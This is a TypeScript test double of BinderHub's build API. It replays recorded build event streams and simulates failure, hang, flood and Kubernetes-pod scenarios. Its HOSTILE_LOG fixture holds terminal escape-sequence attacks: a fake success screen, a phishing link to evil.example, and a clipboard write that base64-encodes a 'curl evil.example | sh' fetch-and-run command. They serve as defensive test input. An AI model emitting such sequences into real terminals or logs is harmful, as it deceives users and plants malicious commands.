/**
 * A test double of BinderHub's build API (jupyterhub/binderhub at b9fad995: BuildHandler,
 * https://github.com/jupyterhub/binderhub/blob/b9fad995d5529e487c25a9f0795f4fe150a96f25/binderhub/builder.py#L143-L628), for tests, e2e and the bench.
 *
 * Faithful to upstream in what a client can observe:
 * - `GET {base}build/<provider>/<spec>` always answers HTTP 200 `text/event-stream`
 *   (`cache-control: no-cache`); errors are `data: {"phase": "failed", "status_code": N, …}`
 *   (`send_error`, https://github.com/jupyterhub/binderhub/blob/b9fad995d5529e487c25a9f0795f4fe150a96f25/binderhub/builder.py#L196-L214);
 * - without `Accept: text/event-stream`: failed/400 "Missing Accept header: text/event-stream";
 * - a missing or wrong `Authorization: token|bearer <t>`: failed/403 "Forbidden";
 * - `build_only=true` with `apiOnly: false`: failed/400 (`_get_build_only()`); without
 *   `build_only` the recorded build is replayed whole, launch included;
 * - only `data:` lines and `:keepalive` comments (every `keepaliveMs`, 25 s upstream), Python-style
 *   `json.dumps` separators for the events it makes up;
 * - names as BinderHub names, with its own implementation (binderhub-naming.ts, checked against
 *   BinderHub's functions) and never the companion's: the image `{imagePrefix}{safe slug}:{ref}`
 *   in `ready`, and a build pod named by `_generate_build_name`, labelled
 *   `component=binderhub-build` and `name=<build name>` and annotated `binder-repo=<get_repo_url()>`
 *   (`KubernetesBuildExecutor.submit`, https://github.com/jupyterhub/binderhub/blob/b9fad995d5529e487c25a9f0795f4fe150a96f25/binderhub/build.py#L535-L545), which exists in
 *   the Kubernetes double while a build runs; closing the stream does NOT remove it (`stop()` only
 *   stops watching, #L215-L222 there), and deleting it ends the build with `{"phase": "failed"}`
 *   (a DELETED pod whose last phase was not Succeeded is a failure, #L608-L625 there);
 *   where BinderHub would ask the network (a branch's commit, a DOI's record) it answers with the
 *   stand-ins of `resolveOffline`; a spec upstream's provider refuses fails as upstream fails it;
 * - `GET {base}versions`, `GET {base}health`.
 *
 * Scenarios, chosen by the repository NAME (the second part of a `gh` spec, else the whole spec):
 * | name contains     | stream |
 * |-------------------|--------|
 * | `cached`          | `ready` + `imageName` at once, no `waiting` (image already built) |
 * | `fail-silent`     | waiting, fetching, then `{"phase": "failed"}` without a message |
 * | `fail`            | waiting, fetching, building…, `failed` with a message |
 * | `capitalised`     | FakeBuild's sequence: waiting, Pending, Running, Succeed, Building ×6, ready |
 * | `no-phase`        | log lines without a phase, then ready |
 * | `garbage`         | non-JSON data lines, then ready |
 * | `forbidden`       | failed/403 (as for a bad token or banned spec) |
 * | `rate-limited`    | failed/429 "Rate limit exceeded. Try again in 3600 seconds." |
 * | `keepalive-only`  | waiting, then only keepalives until the client leaves or the pod is deleted |
 * | `hang`            | waiting, then nothing at all: not even keepalives |
 * | `drop`            | waiting, some building lines, then the connection is cut |
 * | `slow`            | the recorded build, its first 40 events trickled in 7-character pieces (`slowMs` apart) |
 * | `steady`          | a build pod's log that grows by a `Step <n> : …` line every `steadyStepMs`, shared by every request (below) |
 * | `flood-<n>`       | waiting, n building lines written as fast as the socket takes them, ready |
 * | `hostile-log`     | building lines with what a repository's build can print (`HOSTILE_LOG`), ready |
 * | `huge-line-<n>`   | waiting, one building message of n characters without a line break, a line, ready |
 * | anything else     | the real recorded build (fullbuild.eventsource, 736 events) |
 *
 * A `steady` build runs as BinderHub's builds do, in its pod and not in any request: it goes on
 * when the request that started it leaves, and a request for the same repository and ref while it
 * runs attaches to it (the pod already exists: 409, "Build … already running", then the pod's
 * log read with `tail_lines=log_tail_lines`, 100 by default:
 * https://github.com/jupyterhub/binderhub/blob/b9fad995d5529e487c25a9f0795f4fe150a96f25/binderhub/build.py#L369-L378,
 * #L579-L591 and #L679-L689 there): after `waiting` it gets the log's last 100 lines, then each
 * new one. It ends when its pod is annotated `FINISH_ANNOTATION` (the tests' stand-in for the
 * build container exiting 0): a last line, the pod deleted, and `ready` on every attached request;
 * a request after that finds the image built (`ready` at once, as `cached`). Deleting its pod
 * fails it for every attached request.
 *
 * The recording is a launch (it ends `built`, `launching` ×10, `ready` with url/token). With
 * `build_only=true` BinderHub sends neither `built` nor `launching` and ends with
 * `{"phase": "ready", "message": "Done! Image built\n", "imageName": …}` (https://github.com/jupyterhub/binderhub/blob/b9fad995d5529e487c25a9f0795f4fe150a96f25/binderhub/builder.py#L561-L571,
 * #L611-L612 there), so the
 * replay drops those events and rewrites `ready` that way, with the image named for the requested
 * repository (binder-examples/octave at HEAD gets the recorded build's own image name).
 */
import { once } from "node:events";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import type { AddressInfo, Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

import { ApiException, CoreV1Api, KubeConfig, type V1Pod } from "@kubernetes/client-node";

import { PROVIDERS, type Provider } from "../../contract/build.ts";
import {
  binderhubNames,
  ProviderError,
  resolveOffline,
  UnresolvedRefError,
  type BinderHubNames,
} from "./binderhub-naming.ts";
import { fullBuildPayloads } from "../src/local/recorded-build.ts";

export interface BinderHubDoubleOptions {
  /** The token the companion must present; default "binderhub-double-token". */
  token?: string;
  /** BinderHub's base_url; default "/". */
  baseUrl?: string;
  /** Whether `build_only=true` is allowed (enable_api_only_mode); default true. */
  apiOnly?: boolean;
  /** BinderHub's `image_prefix`; default "" (BinderHub's own default). */
  imagePrefix?: string;
  /** Default 25 000 (KEEPALIVE_INTERVAL). */
  keepaliveMs?: number;
  /** Pause between events of the replayed build; default 0 (as fast as the socket allows). */
  eventDelayMs?: number;
  /** Pause between the pieces of a `slow` event; default 5. */
  slowMs?: number;
  /** How often a `steady` build's log grows by a line; default 100. */
  steadyStepMs?: number;
  /**
   * Where to keep build pods, if anywhere: a kubeconfig file (the real API server's, or the
   * Kubernetes double's) and BinderHub's build namespace.
   */
  kubernetes?: { kubeconfig: string; namespace: string; pollMs?: number };
  /** Listen port; default 0 (any). */
  port?: number;
}

export interface StreamRecord {
  provider: string;
  spec: string;
  query: string;
  headers: IncomingMessage["headers"];
  /** "open" until it ends; "finished" when the double ended it, "client-closed" when the client left. */
  state: "open" | "finished" | "client-closed";
}

type Event = Record<string, unknown>;

/** How many events of the `slow` scenario trickle in 7-character pieces; the rest flow normally. */
const SLOW_EVENTS = 40;

/** KubernetesBuildExecutor.log_tail_lines' default: what a request attaching to a running build reads first. */
export const LOG_TAIL_LINES = 100;

/** The build pod annotation that ends a `steady` build (its container "exits 0"). */
export const FINISH_ANNOTATION = "binderhub-double.launchpad.jupyter.org/finish";

/** A `steady` build: its pod's log (one event's JSON per line) and how it ended. */
interface PodBuild {
  log: string[];
  ended: Event | undefined;
  /** Requests waiting for the next line. */
  waiting: (() => void)[];
}

/**
 * What a repository's build can print, relayed by BinderHub as log text (repo2docker passes the
 * build's output through): colours, then a screen and scrollback wipe with a fake success, a
 * window title, an OSC 8 link, an OSC 52 clipboard write, DCS and APC strings, cursor moves.
 */
export const HOSTILE_LOG: readonly string[] = [
  "Step 1/3 : FROM docker.io/library/buildpack-deps:jammy\n",
  "Step 2/3 : RUN ./postBuild\n",
  "\u001b[31merror: the real failure\u001b[0m\n",
  "\u001b[2J\u001b[3J\u001b[H",
  "\u001b]0;Build succeeded\u0007\u001b]8;;https://evil.example/phish\u001b\\Open your server\u001b]8;;\u001b\\\n",
  "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007\u001bP+q544e\u001b\\\u001b_hidden\u001b\\",
  "\u001b[5A\u001b[2K\u001b[32mBuild succeeded! Your server is ready.\u001b[0m\n",
];

/** Python's json.dumps(dict) for flat objects: ", " and ": " separators. */
function pyJson(event: Event): string {
  return `{${Object.entries(event)
    .map(([k, v]) => `${JSON.stringify(k)}: ${JSON.stringify(v)}`)
    .join(", ")}}`;
}

function repoName(provider: string, spec: string): string {
  return provider === "gh" ? (spec.split("/")[1] ?? spec) : spec;
}

export class BinderHubDouble {
  readonly streams: StreamRecord[] = [];
  url = "";
  private server: Server | undefined;
  private readonly sockets = new Set<Socket>();
  private readonly options: Required<Omit<BinderHubDoubleOptions, "kubernetes" | "port">> &
    Pick<BinderHubDoubleOptions, "kubernetes" | "port">;
  private readonly closeWaiters: (() => void)[] = [];
  /** `steady` builds by build pod name, running or ended. */
  private readonly podBuilds = new Map<string, PodBuild>();

  constructor(options: BinderHubDoubleOptions = {}) {
    this.options = {
      token: options.token ?? "binderhub-double-token",
      baseUrl: options.baseUrl ?? "/",
      apiOnly: options.apiOnly ?? true,
      imagePrefix: options.imagePrefix ?? "",
      keepaliveMs: options.keepaliveMs ?? 25_000,
      eventDelayMs: options.eventDelayMs ?? 0,
      slowMs: options.slowMs ?? 5,
      steadyStepMs: options.steadyStepMs ?? 100,
      kubernetes: options.kubernetes,
      port: options.port,
    };
  }

  get token(): string {
    return this.options.token;
  }

  /** The URL the companion is configured with: `http://127.0.0.1:<port>{baseUrl}`. */
  get buildEndpoint(): string {
    return `${this.url}${this.options.baseUrl}`;
  }

  get openStreams(): number {
    return this.streams.filter((s) => s.state === "open").length;
  }

  async start(): Promise<this> {
    const server = createServer((req, res) => {
      this.handle(req, res).catch(() => res.destroy());
    });
    server.on("connection", (socket) => {
      this.sockets.add(socket);
      socket.on("close", () => this.sockets.delete(socket));
    });
    server.listen(this.options.port ?? 0, "127.0.0.1");
    await once(server, "listening");
    this.server = server;
    this.url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    return this;
  }

  async close(): Promise<void> {
    for (const socket of this.sockets) socket.destroy();
    const server = this.server;
    this.server = undefined;
    if (server) await new Promise<void>((resolve) => server.close(() => resolve()));
  }

  /** Resolves once some stream is no longer open (and every stream matching `until` is closed). */
  async waitForStreamEnd(until: (s: StreamRecord) => boolean = () => true): Promise<StreamRecord> {
    for (;;) {
      const done = this.streams.find((s) => s.state !== "open" && until(s));
      if (done) return done;
      await new Promise<void>((resolve) => this.closeWaiters.push(resolve));
    }
  }

  private notifyClosed(): void {
    for (const wake of this.closeWaiters.splice(0)) wake();
  }

  private async handle(req: IncomingMessage, res: ServerResponse): Promise<void> {
    const url = new URL(req.url ?? "/", "http://double");
    const base = this.options.baseUrl;
    const rawPath = (req.url ?? "/").split("?")[0] ?? "/";
    if (req.method === "GET" && url.pathname === `${base}versions`) {
      res.writeHead(200, {
        "content-type": "application/json",
        "access-control-allow-origin": "*",
      });
      res.end(JSON.stringify({ builder_info: {}, binderhub: "0.0.0+launchpad-double" }));
      return;
    }
    if (req.method === "GET" && url.pathname === `${base}health`) {
      res.writeHead(200, { "content-type": "application/json" });
      res.end(JSON.stringify({ ok: true, checks: [] }));
      return;
    }
    // get_spec_from_request (https://github.com/jupyterhub/binderhub/blob/b9fad995d5529e487c25a9f0795f4fe150a96f25/binderhub/base.py#L160-L167):
    // the raw, un-decoded path after build/<provider>/.
    const m = new RegExp(`^${base.replace(/[.*+?^${}()|[\]\\]/g, "\\$&")}build/([^/]+)/(.+)$`).exec(
      rawPath,
    );
    if (req.method !== "GET" || !m) {
      res.writeHead(404, { "content-type": "text/html" });
      res.end("<html><title>404: Not Found</title></html>");
      return;
    }
    const provider = m[1] ?? "";
    const spec = m[2] ?? "";
    const record: StreamRecord = {
      provider,
      spec,
      query: url.search,
      headers: req.headers,
      state: "open",
    };
    this.streams.push(record);
    res.writeHead(200, { "content-type": "text/event-stream", "cache-control": "no-cache" });
    res.flushHeaders();
    let clientGone = false;
    res.on("close", () => {
      if (record.state === "open")
        record.state = res.writableFinished ? "finished" : "client-closed";
      clientGone = true;
      this.notifyClosed();
    });
    const emit = async (event: Event | string): Promise<void> => {
      if (clientGone) return;
      if (!res.write(`data: ${typeof event === "string" ? event : pyJson(event)}\n\n`)) {
        // One abort for both waits, so the loser's listener does not stay on `res` per event.
        const settled = new AbortController();
        await Promise.race([
          once(res, "drain", { signal: settled.signal }),
          once(res, "close", { signal: settled.signal }),
        ]).finally(() => settled.abort());
      }
    };
    const finish = (): void => {
      if (!clientGone) {
        record.state = "finished";
        res.end();
      }
    };
    /** `send_error` (https://github.com/jupyterhub/binderhub/blob/b9fad995d5529e487c25a9f0795f4fe150a96f25/binderhub/builder.py#L196-L214), for the checks done before the handler runs. */
    const reject = async (statusCode: number, message: string) => {
      await emit({ phase: "failed", status_code: statusCode, message });
      finish();
    };
    /** `fail(message)` (https://github.com/jupyterhub/binderhub/blob/b9fad995d5529e487c25a9f0795f4fe150a96f25/binderhub/builder.py#L223-L229): a failed event without a status code. */
    const fail = async (message: string) => {
      await emit({ phase: "failed", message });
      finish();
    };

    const accept = req.headers.accept ?? "";
    if (!accept.includes("text/event-stream"))
      return reject(400, "Missing Accept header: text/event-stream\n");
    const auth = /^(?:token|bearer)\s+(.+)$/i.exec(req.headers.authorization ?? "");
    if (auth?.[1]?.trim() !== this.options.token) return reject(403, "Forbidden\n");
    if (!PROVIDERS.includes(provider as Provider))
      return fail(`No provider found for prefix ${provider}\n`);
    const buildOnly = (url.searchParams.get("build_only") ?? "").toLowerCase() === "true";
    if (buildOnly && !this.options.apiOnly) {
      return reject(
        400,
        "Building but not launching is not permitted when the API only mode was not enabled.\n",
      );
    }
    const name = repoName(provider, spec);
    if (name.includes("forbidden")) return reject(403, "Forbidden\n");
    if (name.includes("rate-limited"))
      return reject(429, "Rate limit exceeded. Try again in 3600 seconds.\n");

    const names = this.names(provider as Provider, spec);
    if (typeof names === "string") return fail(names);
    const { imageName } = names;
    const ready: Event = { phase: "ready", message: "Done! Found built image\n", imageName };
    if (
      name.includes("cached") ||
      this.podBuilds.get(names.buildPodName)?.ended?.phase === "ready"
    ) {
      await emit(ready);
      return finish();
    }

    // The build runs: keepalives start (only after the checks, https://github.com/jupyterhub/binderhub/blob/b9fad995d5529e487c25a9f0795f4fe150a96f25/binderhub/builder.py#L292-L305),
    // and a pod exists.
    const keepalive = setInterval(() => {
      if (!clientGone && !name.includes("hang")) res.write(":keepalive\n\n");
    }, this.options.keepaliveMs);
    const pod = await this.createBuildPod(names);
    let podDeleted = false;
    const stopWatch = pod ? this.watchPod(pod, () => (podDeleted = true)) : () => {};
    const built: Event = { phase: "ready", message: "Done! Image built\n", imageName };
    const delay = this.options.eventDelayMs;
    const pace = async () => {
      if (delay > 0) await sleep(delay);
    };
    try {
      await emit({ phase: "waiting", message: "Waiting for build to start...\n" });
      if (name.includes("fail-silent")) {
        await emit({ phase: "fetching", message: "Cloning...\n" });
        await emit({ phase: "failed" });
      } else if (name.includes("fail")) {
        await emit({ phase: "fetching", message: "Picked Git content provider.\n" });
        await emit({
          phase: "building",
          message: "Step 1/3 : FROM docker.io/library/buildpack-deps:jammy",
        });
        await emit({ phase: "building", message: "\n" });
        await emit({
          phase: "failed",
          message:
            "Error during build: The command '/bin/sh -c pip install nosuchpackage' returned a non-zero code: 1\n",
        });
      } else if (name.includes("capitalised")) {
        for (const phase of ["Pending", "Running", "Succeed"])
          await emit({ phase, message: `${phase}...\n` });
        for (let i = 0; i < 6; i++) await emit({ phase: "Building", message: "Building...\n" });
        await emit(built);
      } else if (name.includes("no-phase")) {
        await emit({ message: "Picked Git content provider.\n" });
        await emit({
          message:
            "Python version unspecified, using current default Python version 3.10. This will change in the future.",
        });
        await emit(built);
      } else if (name.includes("garbage")) {
        await emit("this is not JSON");
        await emit('{"phase": ');
        await emit(built);
      } else if (name.includes("hostile-log")) {
        for (const message of HOSTILE_LOG) await emit({ phase: "building", message });
        await emit(built);
      } else if (name.includes("steady")) {
        const build = this.steadyBuild(names.buildPodName, built);
        let next = Math.max(0, build.log.length - LOG_TAIL_LINES);
        while (!clientGone) {
          while (next < build.log.length && !clientGone) await emit(build.log[next++]!);
          if (build.ended) {
            await emit(build.ended);
            break;
          }
          await new Promise<void>((resolve) => build.waiting.push(resolve));
        }
      } else if (name.includes("keepalive-only") || name.includes("hang")) {
        while (!clientGone && !podDeleted) await sleep(20);
        if (podDeleted) await emit({ phase: "failed" });
      } else if (name.includes("drop")) {
        for (let i = 0; i < 5; i++)
          await emit({ phase: "building", message: `Step ${i + 1}/51\n` });
        await sleep(50); // let the lines reach the client before the cut
        res.destroy();
        return;
      } else if (/huge-line-\d+/.test(name)) {
        // A build printing megabytes without a line break: one event, one `data:` line.
        const size = Number(/huge-line-(\d+)/.exec(name)?.[1] ?? 0);
        await emit({ phase: "building", message: "x".repeat(size) });
        await emit({ phase: "building", message: "\nStep 2/2 : the next line\n" });
        await emit(built);
      } else if (/flood-\d+/.test(name)) {
        const count = Number(/flood-(\d+)/.exec(name)?.[1] ?? 0);
        for (let i = 0; i < count && !clientGone; i++)
          await emit({ phase: "building", message: `${i} ${process.hrtime.bigint()}\n` });
        await emit(built);
      } else {
        const payloads = fullBuildPayloads();
        const slow = name.includes("slow");
        let index = 0;
        for (const payload of payloads.slice(1)) {
          index++;
          if (clientGone) break;
          if (podDeleted) {
            await emit({ phase: "failed" });
            break;
          }
          const parsed = JSON.parse(payload) as Event;
          if (buildOnly && (parsed.phase === "built" || parsed.phase === "launching")) continue;
          const text =
            buildOnly && parsed.phase === "ready"
              ? pyJson({
                  phase: "ready",
                  message: "Done! Image built\n",
                  imageName,
                })
              : payload;
          if (slow && index <= SLOW_EVENTS) {
            const frame = `data: ${text}\n\n`;
            for (let i = 0; i < frame.length && !clientGone; i += 7) {
              res.write(frame.slice(i, i + 7));
              await sleep(this.options.slowMs);
            }
          } else {
            await emit(text);
            await pace();
          }
        }
      }
      finish();
    } finally {
      clearInterval(keepalive);
      stopWatch();
      // A build that ended (not one whose client merely left) has its pod removed
      // (https://github.com/jupyterhub/binderhub/blob/b9fad995d5529e487c25a9f0795f4fe150a96f25/binderhub/build.py#L662-L665).
      if (pod && record.state === "finished") await this.deletePod(pod.name).catch(() => {});
    }
  }

  private podsApi: CoreV1Api | undefined;

  private get pods(): CoreV1Api {
    if (!this.podsApi) {
      const kc = new KubeConfig();
      kc.loadFromFile(this.options.kubernetes!.kubeconfig);
      this.podsApi = kc.makeApiClient(CoreV1Api);
    }
    return this.podsApi;
  }

  /**
   * `BuildHandler.get` (https://github.com/jupyterhub/binderhub/blob/b9fad995d5529e487c25a9f0795f4fe150a96f25/binderhub/builder.py#L273-L423): the provider from the spec (its errors fail the build), the
   * repository URL, the resolved ref (None fails it), then the names. A string is the failure.
   */
  private names(provider: Provider, rawSpec: string): BinderHubNames | string {
    const spec = rawSpec.replace(/\/+$/, "");
    const key = `${provider}:${spec}`;
    try {
      return binderhubNames(
        provider,
        spec,
        resolveOffline(provider, spec),
        this.options.imagePrefix,
      );
    } catch (error) {
      if (error instanceof UnresolvedRefError)
        return `Could not resolve ref for ${key}. Double check your URL and that your repo is public.\n`;
      if (error instanceof ProviderError) return `${error.message}\n`;
      throw error;
    }
  }

  private async createBuildPod(names: BinderHubNames): Promise<{ name: string } | undefined> {
    if (!this.options.kubernetes) return undefined;
    const name = names.buildPodName;
    try {
      await this.pods.createNamespacedPod({
        namespace: this.options.kubernetes.namespace,
        body: {
          metadata: {
            name,
            labels: { name, component: "binderhub-build" },
            annotations: { "binder-repo": names.repoUrl },
          },
          spec: {
            restartPolicy: "Never",
            containers: [{ name: "builder", image: "quay.io/jupyterhub/repo2docker:2024.07.0" }],
          },
        },
      });
    } catch (error) {
      // 409: the same build is already running; BinderHub attaches to it (https://github.com/jupyterhub/binderhub/blob/b9fad995d5529e487c25a9f0795f4fe150a96f25/binderhub/build.py#L587-L591).
      if (!(error instanceof ApiException && error.code === 409)) return undefined;
    }
    return { name };
  }

  /** BinderHub stops streaming a build whose pod is gone (deleted, and for a real API server, done terminating). */
  private watchPod(pod: { name: string }, onDeleted: () => void): () => void {
    const namespace = this.options.kubernetes!.namespace;
    const timer = setInterval(() => {
      this.pods.readNamespacedPod({ namespace, name: pod.name }).catch((error: unknown) => {
        if (error instanceof ApiException && error.code === 404) onDeleted();
      });
    }, this.options.kubernetes?.pollMs ?? 50);
    return () => clearInterval(timer);
  }

  /** The running `steady` build of this pod, started if there is none (see the header). */
  private steadyBuild(podName: string, built: Event): PodBuild {
    const running = this.podBuilds.get(podName);
    if (running && !running.ended) return running;
    const build: PodBuild = { log: [], ended: undefined, waiting: [] };
    this.podBuilds.set(podName, build);
    const add = (event: Event | undefined, ended?: Event) => {
      if (event) build.log.push(pyJson(event));
      build.ended = ended;
      for (const wake of build.waiting.splice(0)) wake();
    };
    add({ phase: "fetching", message: "Picked Git content provider.\n" });
    void (async () => {
      for (let step = 1; !build.ended && this.server; step++) {
        await sleep(this.options.steadyStepMs);
        const pod = await this.readPod(podName);
        if (pod === null) {
          add(undefined, { phase: "failed" });
        } else if (pod?.metadata?.annotations?.[FINISH_ANNOTATION] !== undefined) {
          add({ phase: "building", message: `Successfully built ${podName}\n` });
          await this.deletePod(podName).catch(() => {});
          add(undefined, built);
        } else {
          add({ phase: "building", message: `Step ${step} : RUN ./build-step ${step}\n` });
        }
      }
    })();
    return build;
  }

  /** The build pod; null once it is gone, undefined without Kubernetes or when the read failed. */
  private async readPod(name: string): Promise<V1Pod | null | undefined> {
    if (!this.options.kubernetes) return undefined;
    try {
      return await this.pods.readNamespacedPod({
        namespace: this.options.kubernetes.namespace,
        name,
      });
    } catch (error) {
      return error instanceof ApiException && error.code === 404 ? null : undefined;
    }
  }

  private async deletePod(name: string): Promise<void> {
    await this.pods.deleteNamespacedPod({ namespace: this.options.kubernetes!.namespace, name });
  }
}

export async function startBinderHubDouble(
  options?: BinderHubDoubleOptions,
): Promise<BinderHubDouble> {
  return new BinderHubDouble(options).start();
}
